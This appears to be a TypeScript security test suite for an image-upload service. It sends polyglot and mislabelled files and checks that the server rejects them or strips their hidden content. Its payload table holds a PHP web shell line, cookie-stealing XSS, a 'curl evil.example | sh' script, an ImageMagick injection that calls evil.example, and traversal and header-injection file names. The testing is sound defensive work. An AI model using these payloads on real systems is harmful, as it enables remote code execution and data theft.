import sharp from 'sharp';
import { type Answer, ask, decodeAt, jsonOf, upload } from '../ask.ts';
import { type Family, type HostileCase, pictureMsMax } from '../hostile-case.ts';
import { jpegSegment, withSegments } from '../pictures.ts';
import type { Victim } from '../victim.ts';

const other = ['415 file-type-unsupported'];

/** Files with a false type, or valid as two types at once. */
export const disguises: Family = {
  name: 'polyglots and wrong types',
  cases: ({ portrait }) => [
    ...Object.entries(files).map(([what, file]): HostileCase => refused(what, Buffer.from(file, 'latin1'))),
    ...Object.entries(files).map(([what, file]) =>
      refused(`${what}, before a JPEG`, Buffer.concat([Buffer.from(file, 'latin1'), portrait])),
    ),
    ...Object.entries(files).map(([what, file]) =>
      cleansed(`a JPEG, before ${what}`, Buffer.concat([portrait, Buffer.from(file, 'latin1')]), file),
    ),
    cleansed(
      'a JPEG with a page in its comment',
      withSegments(portrait, [jpegSegment(0xfe, Buffer.from(files['a page']!))]),
      files['a page']!,
    ),
    cleansed(
      'a JPEG with a program in its Exif',
      withSegments(portrait, [jpegSegment(0xe1, Buffer.from(`Exif\0\0${files['a program of PHP']}`))]),
      files['a program of PHP']!,
    ),
    {
      what: 'a JPEG whose first bytes are a comment of JavaScript',
      expected: ['200', '422 file-damaged'],
      withinMs: pictureMsMax,
      send: ({ url }) =>
        decodeAt(
          url,
          Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a]), portrait.subarray(2)]),
        ),
    },
    refused('an empty AVIF', async () => sharp(portrait).resize(64).avif().toBuffer()),
    refused('a TIFF', async () => sharp(portrait).resize(64).tiff().toBuffer()),
    refused('a GIF', async () => sharp(portrait).resize(64).gif().toBuffer()),
    {
      what: 'the beginning of a HEIC',
      expected: ['422 file-damaged'],
      withinMs: pictureMsMax,
      send: ({ url }) =>
        upload(url, Buffer.from('\0\0\0\x1cftypheic\0\0\0\0mif1heicmiaf\0\0\0\x08mdat', 'latin1'), {
          type: 'image/heic',
        }),
    },
    refused('a JPEG XL', Buffer.from('\0\0\0\x0cJXL \r\n\x87\n', 'latin1')),
    refused('a JPEG 2000', Buffer.from('\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 ', 'latin1')),
    ...['image/svg+xml', 'text/html', 'application/x-php', 'image/png', 'a/b; charset=utf-7', ''].map(
      (type) => ({
        what: `a JPEG that says it is ${JSON.stringify(type)}`,
        expected: ['200'],
        send: ({ url }: Victim) => upload(url, portrait, { type }),
      }),
    ),
    ...[
      '../../../etc/passwd',
      'a.php',
      'con.jpg',
      `${'a'.repeat(3000)}.jpg`,
      '%00.jpg',
      'a\r\nX-Injected: 1',
      '‮gpj.exe',
    ].map((fileName) => ({
      what: `a file called ${JSON.stringify(fileName.slice(0, 30))}`,
      expected: ['200', '400 request-invalid', '400 upload-file-missing'],
      send: ({ url }: Victim) => upload(url, portrait, { fileName }),
    })),
  ],
};

const files: Readonly<Record<string, string>> = {
  'a page': '<!doctype html><script>alert(document.cookie)</script>',
  'an SVG with a script': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'a program of PHP': '<?php system($_GET["c"]); ?>',
  'a PDF': '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF',
  'a ZIP': 'PK\x03\x04\x14\0\0\0\0\0hostile-content-of-a-zip',
  'a program of Windows': 'MZ\x90\0\x03\0\0\0hostile-content-of-a-program',
  'a program of Linux': '\x7fELF\x02\x01\x01\0hostile-content-of-a-program',
  'a script of a shell': '#!/bin/sh\ncurl evil.example | sh\n',
  'a GIF that is a script': 'GIF89a/*\x01\0\x01\0*/=1;alert(document.domain)//',
  'a PostScript': '%!PS-Adobe-3.0\n(%pipe%id) (w) file',
  'an ImageMagick script':
    'push graphic-context\nfill \'url(https://evil.example/"|id; ")\'\npop graphic-context',
};

function refused(what: string, file: Buffer | (() => Promise<Buffer>)): HostileCase {
  return {
    what,
    expected: other,
    withinMs: pictureMsMax,
    send: async ({ url }) =>
      upload(url, typeof file === 'function' ? await file() : file, { type: 'image/jpeg' }),
  };
}

/** The file must be accepted as the picture it is, and no hidden content may be served. */
function cleansed(what: string, file: Buffer, hidden: string): HostileCase {
  return { what, expected: ['200'], send: ({ url }) => handedOut(url, file, hidden) };
}

async function handedOut(url: string, file: Buffer, hidden: string): Promise<Answer> {
  const uploaded = await upload(url, file);
  if (uploaded.status !== 200) return uploaded;
  const { imageUrl } = jsonOf<{ imageUrl: string }>(uploaded);
  const { pathname, search } = new URL(imageUrl, url);
  const answer = await ask(url, { method: 'GET', url: pathname + search });
  const isPicture =
    answer.headers['content-type'] === 'image/jpeg' && answer.headers['x-content-type-options'] === 'nosniff';
  if (!isPicture) return { ...answer, code: 'handed out as something else' };
  return answer.body.includes(Buffer.from(hidden, 'latin1'))
    ? { ...answer, code: 'handed out with what was hidden' }
    : answer;
}
